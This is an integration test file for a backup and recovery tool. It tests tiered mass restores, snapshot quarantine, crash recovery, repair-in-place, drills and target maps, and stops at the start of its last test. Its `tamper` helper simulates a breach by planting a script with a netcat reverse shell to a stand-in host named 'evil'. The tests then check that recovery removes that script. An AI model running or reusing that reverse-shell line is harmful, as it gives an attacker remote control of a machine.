//! Mass recovery: drills, quarantine, recovery plans (tiers, egress cap, estimates, a
//! controller killed mid-plan), and repair-in-place restores.

use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::time::Duration;

use lifeboat_tests::tree::{self, Rng, manifest};
use lifeboat_tests::{Fleet, now_ms, wait_for};
use serde_json::Value;

/// Fills `dir` with `files` random files of `size` bytes (one chunk each below 256 KiB).
fn fill(dir: &Path, seed: u64, files: usize, size: usize) {
    fs::create_dir_all(dir.join("etc")).expect("mkdir");
    let mut rng = Rng::new(seed);
    for i in 0..files {
        let sub = if i % 2 == 0 { "etc" } else { "" };
        fs::write(dir.join(sub).join(format!("f{i:03}")), rng.bytes(size)).expect("write");
    }
}

/// What an attacker does: change a file, plant one, delete one.
fn tamper(dir: &Path) {
    fs::write(dir.join("etc/f000"), b"owned").expect("change");
    fs::write(
        dir.join("backdoor.sh"),
        b"#!/bin/sh\nnc -e /bin/sh evil 4444\n",
    )
    .expect("plant");
    fs::remove_file(dir.join("f001")).expect("delete");
}

fn token(fleet: &Fleet, uses: usize, labels: &[&str]) -> String {
    let uses = uses.to_string();
    let mut args = vec!["token", "create", "--ttl", "30m", "--uses", &uses];
    for l in labels {
        args.extend(["--label", l]);
    }
    fleet.cli_json(&args)["token"]
        .as_str()
        .expect("token")
        .to_string()
}

/// One machine: agent `name` backing up `MACHINE/data` (filled with `files` random files of
/// `size` bytes) with `MACHINE` as its restore root. Returns the data directory.
fn machine(fleet: &mut Fleet, name: &str, seed: u64, files: usize, size: usize) -> PathBuf {
    let root = fleet.path(&format!("machines/{name}"));
    let data = root.join("data");
    fill(&data, seed, files, size);
    let agent = fleet.enroll(name);
    fleet.run_agent_with(&agent, &[("data", &data)], &[&root], &["--no-docker"]);
    data
}

fn snapshot_id(fleet: &Fleet, agent: &str) -> String {
    fleet.backup(agent, "data")["id"]
        .as_str()
        .expect("id")
        .to_string()
}

/// A time (Unix milliseconds) in RFC 3339, as an operator types it.
fn rfc(unix_ms: i64) -> String {
    humantime::format_rfc3339_millis(std::time::UNIX_EPOCH + Duration::from_millis(unix_ms as u64))
        .to_string()
}

/// Starts a backup of `source` on every agent and waits until each has a new snapshot.
fn backup_all(fleet: &Fleet, agents: &[String], source: &str) {
    let before = fleet
        .cli_json(&["snapshots"])
        .as_array()
        .map_or(0, Vec::len);
    for a in agents {
        let out = fleet.cli(&["backup", a, "--source", source]);
        assert!(
            out.status.success(),
            "backup {a}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    wait_for("every backup", Duration::from_secs(300), || {
        let n = fleet
            .cli_json(&["snapshots"])
            .as_array()
            .map_or(0, Vec::len);
        (n >= before + agents.len()).then_some(())
    });
}

fn plan_json(fleet: &Fleet, args: &[&str]) -> Value {
    let mut all = vec!["recover", "plan"];
    all.extend_from_slice(args);
    fleet.cli_json(&all)
}

fn ms(v: &Value) -> f64 {
    v.as_u64().unwrap_or_else(|| panic!("not a number: {v}")) as f64
}

/// 50 devices in two tiers, calibrated by one drill each, recovered under an egress cap
/// with concurrency 8: every device ends byte-identical to its restore point (files
/// planted after it removed), tier 0 is back before tier 1 starts, and every device's
/// downtime is within ±25% of the plan's estimate, the total within ±15%.
#[test]
fn fifty_devices_recover_in_tier_order_within_the_estimate() {
    const DEVICES: usize = 50;
    const DB: usize = 10;
    let mut fleet = Fleet::start();
    fleet.apply_policy("[[policy]]\nname = \"db\"\nselector = \"role=db\"\nsources = [\"data\"]\nschedule = \"0 0 1 1 *\"\ntier = 0\n\n\
         [[policy]]\nname = \"app\"\nselector = \"role=app\"\nsources = [\"data\"]\nschedule = \"0 0 1 1 *\"\ntier = 1\n",
    );

    let db_token = token(&fleet, DB, &["role=db", "fleet=test"]);
    let app_token = token(&fleet, DEVICES - DB, &["role=app", "fleet=test"]);
    let mut names = Vec::new();
    let mut dirs: Vec<PathBuf> = Vec::new();
    for i in 0..DEVICES {
        let name = if i < DB {
            format!("db{i:02}")
        } else {
            format!("app{i:02}")
        };
        let agent = fleet.enroll_token(&name, if i < DB { &db_token } else { &app_token });
        let root = fleet.path(&format!("machines/{name}"));
        let data = root.join("data");
        // A few MiB per device, in small files so that the egress is shared finely.
        fill(&data, i as u64, 24, 128 * 1024);
        fleet.spawn_agent(&agent, &[("data", &data)], &[&root], &["--no-docker"]);
        names.push(name);
        dirs.push(data);
    }
    fleet.wait_connected(DEVICES);
    backup_all(&fleet, &names, "data");
    let expected: Vec<_> = dirs.iter().map(|d| manifest(d)).collect();
    std::thread::sleep(Duration::from_millis(20));
    let cutoff = now_ms();
    let cutoff_rfc = rfc(cutoff);

    // The breach: every machine is tampered with, and a backup after it records that.
    for d in &dirs {
        tamper(d);
    }
    backup_all(&fleet, &names, "data");

    // One drill per device calibrates the model; the estimates become measured.
    let before = fleet.cli_json(&["devices"]);
    assert!(
        before
            .as_array()
            .expect("devices")
            .iter()
            .all(|d| d["estimate_basis"] == "assumed"),
        "{before}"
    );
    let drills = fleet.cli_json(&["drill", "run", "--selector", "fleet=test"]);
    let drills = drills.as_array().expect("drills");
    assert_eq!(drills.len(), DEVICES);
    assert!(drills.iter().all(|d| d["state"] == "passed"), "{drills:?}");
    let devices = fleet.cli_json(&["devices"]);
    assert!(
        devices
            .as_array()
            .expect("devices")
            .iter()
            .all(|d| d["estimate_basis"] == "measured"
                && d["restore_estimate_seconds"].as_f64().unwrap_or(0.0) > 0.0),
        "{devices}"
    );
    // Drills restore the newest good snapshot (the tampered one; nothing is quarantined)
    // into a sandbox and leave the machine alone.
    assert!(dirs[0].join("backdoor.sh").exists());

    // 16 MiB/s for 150 MiB: about ten seconds, bandwidth-bound.
    let plan = plan_json(
        &fleet,
        &[
            "--selector",
            "fleet=test",
            "--before",
            &cutoff_rfc,
            "--concurrency",
            "8",
            "--bandwidth",
            "16MiB/s",
        ],
    );
    let id = plan["id"].as_str().expect("plan id").to_string();
    let planned = plan["devices"].as_array().expect("devices");
    assert_eq!(planned.len(), DEVICES);
    // Tier 0 first in the plan, and every restore point predates the breach.
    let tiers: Vec<u64> = planned
        .iter()
        .map(|d| d["tier"].as_u64().expect("tier"))
        .collect();
    assert!(tiers.windows(2).all(|w| w[0] <= w[1]), "{tiers:?}");
    assert_eq!(tiers.iter().filter(|t| **t == 0).count(), DB);
    let cut = cutoff;
    let snaps = fleet.cli_json(&["snapshots"]);
    let received = |id: &str| -> i64 {
        snaps
            .as_array()
            .and_then(|a| a.iter().find(|s| s["id"] == id))
            .and_then(|s| s["received_unix_ms"].as_i64())
            .expect("snapshot listed")
    };
    for d in planned {
        let src = &d["sources"][0];
        assert!(
            received(src["snapshot"].as_str().expect("snapshot")) < cut,
            "{d}"
        );
        assert!(d["est_downtime_ms"].as_u64().expect("estimate") > 0);
    }

    let out = fleet.cli(&["recover", "run", &id, "--wait", "--json"]);
    let done: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|_| panic!("recover run: {}", String::from_utf8_lossy(&out.stderr)));
    assert!(out.status.success(), "plan failed: {done}");
    assert_eq!(done["state"], "finished");
    // What moved is what the restore points' stored chunks weigh.
    let wire: u64 = done["devices"]
        .as_array()
        .expect("devices")
        .iter()
        .flat_map(|d| d["sources"].as_array().expect("sources").iter())
        .map(|s| s["wire_bytes"].as_u64().expect("wire bytes"))
        .sum();
    assert_eq!(done["bytes_moved"].as_u64(), Some(wire));
    assert!(wire >= (DEVICES * 24 * 128 * 1024) as u64, "{wire}");

    // Byte-identical, the planted file gone, the deleted one back.
    for (d, want) in dirs.iter().zip(&expected) {
        assert_eq!(
            &manifest(d),
            want,
            "{} differs from its restore point",
            d.display()
        );
        assert!(!d.join("backdoor.sh").exists());
    }

    // Tier 0 was back before tier 1 started (actual starts, from the jobs).
    let jobs = fleet.cli_json(&["jobs", "--limit", "1000"]);
    let tag = format!("plan:{id}");
    let plan_jobs: Vec<&Value> = jobs
        .as_array()
        .expect("jobs")
        .iter()
        .filter(|j| j["detail"].as_str().unwrap_or("").starts_with(&tag))
        .collect();
    let failed: Vec<&&Value> = plan_jobs
        .iter()
        .filter(|j| j["state"] != "succeeded")
        .collect();
    assert_eq!(
        plan_jobs.len(),
        DEVICES,
        "one restore per device; not succeeded: {failed:?}"
    );
    let t = |j: &Value, k: &str| j[k].as_i64().expect("unix ms");
    let tier0_end = plan_jobs
        .iter()
        .filter(|j| j["agent"].as_str().unwrap_or("").starts_with("db"))
        .map(|j| t(j, "finished_unix_ms"))
        .max()
        .expect("tier 0 jobs");
    let tier1_start = plan_jobs
        .iter()
        .filter(|j| j["agent"].as_str().unwrap_or("").starts_with("app"))
        .map(|j| t(j, "started_unix_ms"))
        .min()
        .expect("tier 1 jobs");
    assert!(
        tier0_end <= tier1_start,
        "tier 1 started before tier 0 was back"
    );

    // The estimate against what happened.
    let mut worst = 0.0f64;
    let (mut est_total, mut actual_total) = (0.0, 0.0);
    println!("device   tier  estimate_ms  actual_ms  error");
    for d in done["devices"].as_array().expect("devices") {
        let (est, actual) = (ms(&d["est_downtime_ms"]), ms(&d["actual_downtime_ms"]));
        let err = (actual - est) / est;
        println!(
            "{:8} {:4} {:12.0} {:10.0} {:+6.1}%",
            d["agent"].as_str().unwrap_or(""),
            d["tier"],
            est,
            actual,
            err * 100.0
        );
        worst = worst.max(err.abs());
        est_total += est;
        actual_total += actual;
    }
    let total_err = (actual_total - est_total) / est_total;
    println!(
        "total: estimate {est_total:.0} ms, actual {actual_total:.0} ms ({:+.1}%); worst device {:.1}%",
        total_err * 100.0,
        worst * 100.0
    );
    assert!(
        worst <= 0.25,
        "a device's downtime was {:.0}% off its estimate",
        worst * 100.0
    );
    assert!(
        total_err.abs() <= 0.15,
        "total downtime {:.0}% off",
        total_err * 100.0
    );
}

fn snapshot_ids(fleet: &Fleet, agent: &str) -> Vec<String> {
    fleet
        .cli_json(&["snapshots", "--agent", agent])
        .as_array()
        .expect("snapshots")
        .iter()
        .map(|s| s["id"].as_str().expect("id").to_string())
        .collect()
}

/// Snapshots after the compromise time are never chosen; an admin can force them, and the
/// audit log says so. Operators cannot force, restores of quarantined snapshots are refused.
#[test]
fn quarantined_snapshots_are_skipped_unless_an_admin_forces_them() {
    let mut fleet = Fleet::start();
    let data = machine(&mut fleet, "web", 7, 4, 10_000);
    let root = data.parent().expect("machine").to_path_buf();
    let good = snapshot_id(&fleet, "web");
    std::thread::sleep(Duration::from_millis(20));
    let breach = rfc(now_ms());
    tamper(&data);
    let bad = snapshot_id(&fleet, "web");

    let q = fleet.cli_json(&[
        "snapshots",
        "quarantine",
        "--agent",
        "web",
        "--after",
        &breach,
    ]);
    let ids: Vec<&str> = q
        .as_array()
        .expect("list")
        .iter()
        .filter_map(|s| s["id"].as_str())
        .collect();
    assert_eq!(
        ids,
        vec![bad.as_str()],
        "only the snapshot after the breach is quarantined"
    );
    let listed = fleet.cli_json(&["snapshots", "--agent", "web"]);
    for s in listed.as_array().expect("list") {
        assert_eq!(s["quarantined"] == true, s["id"] == bad.as_str(), "{s}");
    }
    assert_eq!(snapshot_ids(&fleet, "web").len(), 2);

    // A plan with a cut-off after both still picks the good one.
    let later = rfc(now_ms() + 1000);
    let plan = plan_json(&fleet, &["--agent", "web", "--before", &later]);
    assert_eq!(
        plan["devices"][0]["sources"][0]["snapshot"],
        good.as_str(),
        "{plan}"
    );
    assert_eq!(plan["devices"][0]["sources"][0]["quarantined"], false);

    // A plain restore of the quarantined snapshot is refused, naming why.
    let target = root.join("copy");
    let out = fleet.cli(&[
        "restore",
        &bad,
        "--agent",
        "web",
        "--to",
        target.to_str().expect("p"),
    ]);
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("quarantined"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // An operator may quarantine but not force.
    let op = fleet.path("op.identity");
    let out = fleet.cli(&[
        "identity",
        "create",
        "op",
        "--role",
        "operator",
        "--out",
        op.to_str().expect("p"),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let as_op = |args: &[&str]| {
        lifeboat_tests::bin("lifeboat")
            .args(args)
            .env("LIFEBOAT_IDENTITY", &op)
            .env("LIFEBOAT_CONTROLLER", &fleet.url)
            .output()
            .expect("run lifeboat")
    };
    let out = as_op(&[
        "recover", "plan", "--agent", "web", "--before", &later, "--force",
    ]);
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("denied"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = as_op(&[
        "snapshots",
        "quarantine",
        "--agent",
        "web",
        "--after",
        &breach,
        "--clear",
    ]);
    assert!(!out.status.success(), "an operator lifted a quarantine");

    // The admin forces it: the plan takes the newest snapshot, marked, and the audit log
    // records that quarantined snapshots were chosen.
    let forced = plan_json(&fleet, &["--agent", "web", "--before", &later, "--force"]);
    assert_eq!(
        forced["devices"][0]["sources"][0]["snapshot"],
        bad.as_str(),
        "{forced}"
    );
    assert_eq!(forced["devices"][0]["sources"][0]["quarantined"], true);
    let audit = fleet.cli_json(&["audit"]);
    let entry = audit
        .as_array()
        .expect("audit")
        .iter()
        .find(|e| e["action"] == "plan.quarantined_forced")
        .unwrap_or_else(|| panic!("no audit entry for the forced plan: {audit}"));
    assert_eq!(entry["target"], forced["id"]);
    assert!(entry["detail"].to_string().contains(&bad), "{entry}");
}

/// A controller killed mid-plan resumes it after a restart: every device ends restored,
/// devices finished before the kill are not touched again, and no restore ran twice.
#[test]
fn a_plan_survives_a_controller_crash() {
    const DEVICES: usize = 6;
    let mut fleet = Fleet::start();
    let tok = token(&fleet, DEVICES, &["fleet=crash"]);
    let mut dirs = Vec::new();
    for i in 0..DEVICES {
        let name = format!("m{i}");
        let agent = fleet.enroll_token(&name, &tok);
        let root = fleet.path(&format!("machines/{name}"));
        let data = root.join("data");
        fill(&data, 100 + i as u64, 16, 128 * 1024);
        fleet.spawn_agent(&agent, &[("data", &data)], &[&root], &["--no-docker"]);
        dirs.push(data);
    }
    fleet.wait_connected(DEVICES);
    let names: Vec<String> = (0..DEVICES).map(|i| format!("m{i}")).collect();
    backup_all(&fleet, &names, "data");
    let expected: Vec<_> = dirs.iter().map(|d| manifest(d)).collect();
    for d in &dirs {
        tamper(d);
    }
    let later = rfc(now_ms() + 1000);
    // 2 MiB per device at 2 MiB/s, two at a time: about six seconds in all.
    let plan = plan_json(
        &fleet,
        &[
            "--selector",
            "fleet=crash",
            "--before",
            &later,
            "--concurrency",
            "2",
            "--bandwidth",
            "2MiB/s",
        ],
    );
    let id = plan["id"].as_str().expect("id").to_string();
    let out = fleet.cli(&["recover", "run", &id]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // The runner is a background worker an operator sees in `lifeboat status`, stepping
    // ten times a second while the plan runs.
    let runner = format!("plan-runner:{id}");
    let worker = |fleet: &Fleet| -> Option<Value> {
        fleet.cli_json(&["status"])["workers"]
            .as_array()?
            .iter()
            .find(|w| w["name"] == runner.as_str())
            .cloned()
    };
    let w = wait_for("the plan's runner to step", Duration::from_secs(30), || {
        worker(&fleet).filter(|w| w["runs"].as_u64() > Some(1))
    });
    assert_eq!(w["every_ms"], 100, "{w}");
    assert_eq!(w["failures"], 0, "{w}");

    let show = |fleet: &Fleet| fleet.cli_json(&["recover", "show", &id]);
    let done_before: Vec<String> =
        wait_for("two devices restored", Duration::from_secs(120), || {
            let p = show(&fleet);
            let done: Vec<String> = p["devices"]
                .as_array()?
                .iter()
                .filter(|d| d["state"] == "done")
                .map(|d| d["agent"].as_str().unwrap_or_default().to_string())
                .collect();
            (done.len() >= 2).then_some(done)
        });
    fleet.kill_controller();
    // What the finished devices hold now must not change again.
    let inode = |name: &str| {
        let i: usize = name[1..].parse().expect("index");
        let m = fs::metadata(dirs[i].join("etc/f000")).expect("restored file");
        (m.ino(), m.mtime(), m.mtime_nsec())
    };
    let marks: Vec<_> = done_before.iter().map(|n| inode(n)).collect();
    fleet.start_controller();

    let end = wait_for(
        "the plan to finish after the restart",
        Duration::from_secs(180),
        || {
            let p = show(&fleet);
            (p["state"] != "running").then_some(p)
        },
    );
    assert_eq!(end["state"], "finished", "{end}");
    // Resumed after the restart as a worker again, and gone from the list once done.
    wait_for(
        "the finished plan's runner to leave the worker list",
        Duration::from_secs(10),
        || worker(&fleet).is_none().then_some(()),
    );
    for (d, want) in dirs.iter().zip(&expected) {
        assert_eq!(
            &manifest(d),
            want,
            "{} differs from its restore point",
            d.display()
        );
    }
    for (n, mark) in done_before.iter().zip(&marks) {
        assert_eq!(&inode(n), mark, "{n} was restored again after the restart");
    }
    // Devices finished before the crash got no second job; a device caught mid-restore
    // may have been retried, but never while its first restore still ran; every agent
    // completed exactly one restore.
    let jobs = fleet.cli_json(&["jobs", "--limit", "1000"]);
    let tag = format!("plan:{id}");
    for n in &names {
        let mut mine: Vec<(i64, i64)> = jobs
            .as_array()
            .expect("jobs")
            .iter()
            .filter(|j| {
                j["agent"] == n.as_str() && j["detail"].as_str().unwrap_or("").starts_with(&tag)
            })
            .map(|j| {
                (
                    j["started_unix_ms"].as_i64().unwrap_or(0),
                    j["finished_unix_ms"].as_i64().unwrap_or(0),
                )
            })
            .collect();
        mine.sort();
        if done_before.contains(n) {
            assert_eq!(
                mine.len(),
                1,
                "{n} finished before the crash but was restored again: {mine:?}"
            );
        }
        for w in mine.windows(2) {
            assert!(w[0].1 <= w[1].0, "{n}: two restores overlapped: {mine:?}");
        }
        let runs = fleet.agent_log(n).matches("restore finished").count();
        assert_eq!(runs, 1, "{n} completed its restore {runs} times");
    }
}

/// Repair in place rewrites exactly the files that differ, restores the missing ones,
/// removes planted ones only with --delete-extra, reports each, and leaves untouched files
/// alone (same inode, same mtime).
#[test]
fn repair_rewrites_only_what_differs_and_reports_it() {
    let mut fleet = Fleet::start();
    let data = machine(&mut fleet, "db", 3, 8, 50_000);
    fs::write(data.join("same-size"), vec![b'a'; 4096]).expect("write");
    let snap = snapshot_id(&fleet, "db");
    let expected = manifest(&data);

    // Modified (same size and a different size), planted (a file and a directory),
    // deleted.
    fs::write(data.join("same-size"), vec![b'b'; 4096]).expect("modify");
    fs::write(data.join("etc/f002"), b"shorter").expect("modify");
    fs::write(data.join("planted"), b"x").expect("plant");
    fs::create_dir(data.join("etc/.hidden")).expect("plant dir");
    fs::write(data.join("etc/.hidden/tool"), b"y").expect("plant");
    fs::remove_file(data.join("f003")).expect("delete");
    let untouched = ["etc/f000", "f001", "etc/f004", "f005", "etc/f006", "f007"];
    let stat = |p: &str| {
        let m = fs::metadata(data.join(p)).expect("stat");
        (m.ino(), m.mtime(), m.mtime_nsec())
    };
    let before: Vec<_> = untouched.iter().map(|p| stat(p)).collect();

    let to = data.to_str().expect("path");
    let report = fleet.path("report.json");
    let rep = report.to_str().expect("path");
    // Without --delete-extra: planted files are reported and left.
    let out = fleet.cli(&[
        "restore", &snap, "--agent", "db", "--to", to, "--mode", "repair", "--report", rep,
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let r: Value = serde_json::from_slice(&fs::read(&report).expect("report")).expect("json");
    let list = |k: &str| -> Vec<String> {
        let mut v: Vec<String> = r[k]
            .as_array()
            .expect(k)
            .iter()
            .map(|x| x.as_str().expect("s").to_string())
            .collect();
        v.sort();
        v
    };
    assert_eq!(list("modified"), vec!["etc/f002", "same-size"], "{r}");
    assert_eq!(list("missing"), vec!["f003"], "{r}");
    assert_eq!(list("planted"), vec!["etc/.hidden", "planted"], "{r}");
    assert_eq!(r["extras_removed"], false);
    assert!(data.join("planted").exists());
    assert_eq!(r["unchanged"].as_u64(), Some(untouched.len() as u64), "{r}");
    // Only what differed moved: the two random files rewritten or restored (stored raw) and
    // the compressible one, not the 300 kB of untouched files.
    let differing = 4096 + 2 * 50_000;
    assert_eq!(r["bytes_written"].as_u64(), Some(differing), "{r}");
    let fetched = r["bytes_fetched"].as_u64().expect("bytes_fetched");
    assert!(
        (2 * 50_000..differing + 1024).contains(&fetched),
        "fetched {fetched} bytes for {differing} bytes that differ: {r}"
    );
    let after: Vec<_> = untouched.iter().map(|p| stat(p)).collect();
    assert_eq!(before, after, "an untouched file was rewritten");

    // With --delete-extra: the planted ones go, the tree is exactly the snapshot, and
    // nothing else is rewritten.
    let out = fleet.cli(&[
        "restore",
        &snap,
        "--agent",
        "db",
        "--to",
        to,
        "--mode",
        "repair",
        "--delete-extra",
        "--report",
        rep,
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let r: Value = serde_json::from_slice(&fs::read(&report).expect("report")).expect("json");
    assert_eq!(r["modified"].as_array().map(Vec::len), Some(0), "{r}");
    assert_eq!(r["missing"].as_array().map(Vec::len), Some(0), "{r}");
    assert_eq!(r["extras_removed"], true);
    assert_eq!(manifest(&data), expected);
    let after: Vec<_> = untouched.iter().map(|p| stat(p)).collect();
    assert_eq!(before, after, "an untouched file was rewritten");
}

/// A drill restores into a sandbox, runs the probe there, and removes the sandbox; a
/// failing probe fails the drill loudly (exit code, log, metric) and records why.
#[test]
fn drills_probe_the_restore_and_a_failing_probe_is_loud() {
    let mut fleet = Fleet::start();
    let data = fleet.path("data");
    fill(&data, 9, 4, 20_000);
    let agent = fleet.enroll("a");
    fleet.run_agent_with(
        &agent,
        &[("data", &data)],
        &[],
        &["--no-docker", "--allow-probes"],
    );
    let snap = fleet.backup("a", "data")["id"]
        .as_str()
        .expect("id")
        .to_string();
    let other = fleet.enroll("b");
    let other_data = fleet.path("data-b");
    fill(&other_data, 10, 2, 1000);
    fleet.run_agent_with(&other, &[("data", &other_data)], &[], &["--no-docker"]);
    fleet.backup("b", "data");

    let passed = fleet.cli_json(&[
        "drill",
        "run",
        "--agent",
        "a",
        "--probe",
        "test -s etc/f000 && test \"$LIFEBOAT_RESTORED\" = \"$PWD\"",
    ]);
    let d = &passed[0];
    assert_eq!(d["state"], "passed", "{passed}");
    assert_eq!(d["snapshot"], snap.as_str());
    assert_eq!(d["result"]["probe"]["exit"], 0);
    assert!(d["actual_ms"].as_u64().expect("actual") > 0);
    assert_eq!(
        d["estimate_basis"], "assumed",
        "the first drill had no measurement before it"
    );
    let sandbox = d["result"]["sandbox"]
        .as_str()
        .expect("sandbox")
        .to_string();
    assert!(
        sandbox.starts_with(agent.state_dir.to_str().expect("p")),
        "{sandbox}"
    );
    assert!(!Path::new(&sandbox).exists(), "the sandbox was left behind");

    let out = fleet.cli(&[
        "drill",
        "run",
        "--agent",
        "a",
        "--probe",
        "test -f no-such-file",
        "--json",
    ]);
    assert_eq!(out.status.code(), Some(2), "a failed drill must exit 2");
    assert!(String::from_utf8_lossy(&out.stderr).contains("DRILL FAILED"));
    let failed: Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(failed[0]["state"], "failed");
    assert!(
        failed[0]["error"]
            .as_str()
            .expect("error")
            .contains("probe failed with exit code 1"),
        "{failed}"
    );
    assert_eq!(
        failed[0]["estimate_basis"], "measured",
        "the first drill measured the device"
    );
    // Listed, counted, logged.
    let out = fleet.cli(&["drills", "--json"]);
    assert_eq!(out.status.code(), Some(2), "drills lists a failure: exit 2");
    let all: Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(all.as_array().map(Vec::len), Some(2));
    assert!(fleet.controller_log().contains("DRILL FAILED"));
    let metrics = lifeboat_tests::metrics(&fleet);
    assert!(
        metrics.contains("lifeboat_drills_failed_total 1"),
        "{metrics}"
    );
    assert!(
        metrics.contains("lifeboat_device_restore_estimate_seconds{agent=\"a\",basis=\"measured\""),
        "{metrics}"
    );
    assert!(
        metrics.contains("lifeboat_device_restore_estimate_seconds{agent=\"b\",basis=\"assumed\""),
        "{metrics}"
    );

    // An agent that was not started with --allow-probes refuses to run one.
    let out = fleet.cli(&["drill", "run", "--agent", "b", "--probe", "true", "--json"]);
    assert_eq!(out.status.code(), Some(2));
    let refused: Value = serde_json::from_slice(&out.stdout).expect("json");
    assert!(
        refused[0]["error"]
            .as_str()
            .expect("error")
            .contains("--allow-probes"),
        "{refused}"
    );
}

/// `--target-map` sends a device to a replacement agent; a host path must lie below one of
/// the target agent's restore roots (the agent's configuration decides), else the plan is
/// refused naming the path and the roots.
#[test]
fn a_target_map_sends_a_device_to_its_replacement() {
    let mut fleet = Fleet::start();
    let data = machine(&mut fleet, "old", 21, 6, 30_000);
    let root = data.parent().expect("machine").to_path_buf();
    fleet.backup("old", "data");
    let expected = manifest(&data);
    // The machine is lost: its agent is gone and revoked, its disk wiped.
    fleet.kill_agent("old");
    let out = fleet.cli(&["agents", "revoke", "old"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    fs::remove_dir_all(&data).expect("wipe");
    let elsewhere = fleet.path("elsewhere");
    fs::create_dir_all(&elsewhere).expect("mkdir");
    let bad = fleet.enroll("bad");
    fleet.run_agent_with(&bad, &[], &[&elsewhere], &["--no-docker"]);
    let new = fleet.enroll("new");
    fleet.run_agent_with(&new, &[], &[&root], &["--no-docker"]);
    let later = rfc(now_ms() + 1000);

    let out = fleet.cli(&["recover", "plan", "--agent", "old", "--before", &later]);
    assert!(
        !out.status.success(),
        "a revoked device was planned onto itself"
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("--target-map"));

    let map = fleet.path("map.txt");
    fs::write(&map, "# lost machines\nold = bad\n").expect("map");
    let out = fleet.cli(&[
        "recover",
        "plan",
        "--agent",
        "old",
        "--before",
        &later,
        "--target-map",
        map.to_str().expect("p"),
    ]);
    assert!(
        !out.status.success(),
        "planned a restore outside the target's restore roots"
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("not below a restore root of agent bad"),
        "{err}"
    );
    assert!(err.contains(elsewhere.to_str().expect("p")), "{err}");

    fs::write(&map, "old = \"new\"\n").expect("map");
    let plan = plan_json(
        &fleet,
        &[
            "--agent",
            "old",
            "--before",
            &later,
            "--target-map",
            map.to_str().expect("p"),
        ],
    );
    assert_eq!(plan["devices"][0]["target_agent"], "new", "{plan}");
    let id = plan["id"].as_str().expect("id");
    let out = fleet.cli(&["recover", "run", id, "--wait"]);
    assert!(
        out.status.success(),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let report = String::from_utf8_lossy(&out.stdout);
    assert!(
        report.contains("old -> new") && report.contains("actual"),
        "{report}"
    );
    assert_eq!(manifest(&data), expected);
}

/// A device with one source inside another (`srv/db` inside `srv`, named so that the inner
/// sorts first): the plan restores the outer one first, says so, and each ends as its own
/// restore point. Before, the plan restored them in name order, and the outer restore
/// (exact, extras removed) put its older copy of `db` back over `db`'s own restore point
/// while the plan reported both restored.
#[test]
fn a_source_inside_another_ends_as_its_own_restore_point() {
    let mut fleet = Fleet::start();
    let root = fleet.path("machines/m");
    let srv = root.join("srv");
    let db = srv.join("db");
    fill(&srv, 31, 6, 20_000);
    fs::create_dir_all(&db).expect("mkdir");
    fs::write(db.join("table"), b"rows as of the first backup").expect("write");
    let agent = fleet.enroll("m");
    fleet.run_agent_with(
        &agent,
        &[("srv", &srv), ("db", &db)],
        &[&root],
        &["--no-docker"],
    );
    // Everything but `db` and what lies in it, as the outer source's restore leaves it.
    let outside_db = |m: Vec<tree::Item>| -> Vec<tree::Item> {
        m.into_iter()
            .filter(|i| !i.path.starts_with("db"))
            .collect()
    };
    fleet.backup("m", "srv");
    let srv_expected = outside_db(manifest(&srv));
    fs::write(db.join("table"), b"rows as of the second backup, newer").expect("write");
    fs::write(db.join("journal"), b"only in db's own snapshot").expect("write");
    fleet.backup("m", "db");
    let db_expected = manifest(&db);

    // The breach: both changed, db's new file gone.
    tamper(&srv);
    fs::write(db.join("table"), b"encrypted").expect("tamper");
    fs::remove_file(db.join("journal")).expect("delete");

    let plan = plan_json(&fleet, &["--agent", "m", "--before", &rfc(now_ms() + 1000)]);
    let sources: Vec<&str> = plan["devices"][0]["sources"]
        .as_array()
        .expect("sources")
        .iter()
        .map(|s| s["source"].as_str().expect("source"))
        .collect();
    assert_eq!(
        sources,
        ["srv", "db"],
        "the outer source goes first: {plan}"
    );
    let warnings = plan["warnings"].to_string();
    assert!(
        warnings.contains("inside source srv") && warnings.contains("srv is restored first"),
        "the plan says why: {plan}"
    );
    let id = plan["id"].as_str().expect("id");
    let out = fleet.cli(&["recover", "run", id, "--wait"]);
    assert!(
        out.status.success(),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        fs::read(db.join("table")).expect("read"),
        b"rows as of the second backup, newer",
        "db ended as srv's older copy of it"
    );
    assert_eq!(manifest(&db), db_expected, "db is its own restore point");
    assert_eq!(
        outside_db(manifest(&srv)),
        srv_expected,
        "srv is its restore point"
    );
}

/// Agent `name`, enrolled with `tok`, backs up `NAME/data` (`files` random files of `size`
/// bytes) once and runs probes.
fn drillable(fleet: &mut Fleet, name: &str, tok: &str, seed: u64, files: usize, size: usize) {
    let agent = fleet.enroll_token(name, tok);
    let data = fleet.path(&format!("{name}/data"));
    fill(&data, seed, files, size);
    fleet.run_agent_with(
        &agent,
        &[("data", &data)],
        &[],
        &["--no-docker", "--allow-probes"],
    );
    fleet.backup(name, "data");
}

/// A drill run of several devices begins with a calibration burst: their restores all at
/// once into sandboxes, whose aggregate rate the downtime model takes as the fleet's
/// capacity before any plan has run (the first plan's estimates depend on it). The burst's
/// restores are listed as jobs, leave nothing behind, are nobody's drill, and are not
/// repeated by the next drill run of as many devices within a week.
#[test]
fn a_drill_run_of_several_devices_calibrates_what_they_move_together() {
    let mut fleet = Fleet::start();
